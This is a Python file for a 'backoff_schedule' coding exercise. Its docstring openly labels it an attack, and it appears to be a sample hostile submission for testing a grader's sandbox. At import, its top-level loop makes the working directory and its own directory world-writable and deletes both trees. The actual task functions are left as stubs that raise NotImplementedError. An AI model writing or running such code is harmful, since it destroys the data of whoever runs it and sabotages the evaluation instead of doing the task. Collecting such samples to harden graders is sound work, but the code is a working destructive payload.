"""Removes what it can.

Kata: backoff_schedule
Attack: Makes writable and deletes the working directory and the directory of its own file, but no more than a workspace holds.
Status: failed or error
Points: 0
Needs: tree
"""

import os
import shutil
from pathlib import Path

for folder in {Path.cwd(), Path(__file__).absolute().parent}:
    if len(folder.parts) > 2 and not (folder / ".git").exists():
        for path, _, _ in os.walk(folder):
            try:
                os.chmod(path, 0o777)
            except OSError:
                pass
        shutil.rmtree(folder, ignore_errors=True)


def delay(retry, **options):
    raise NotImplementedError


class Backoff:
    def __init__(self, **options):
        raise NotImplementedError
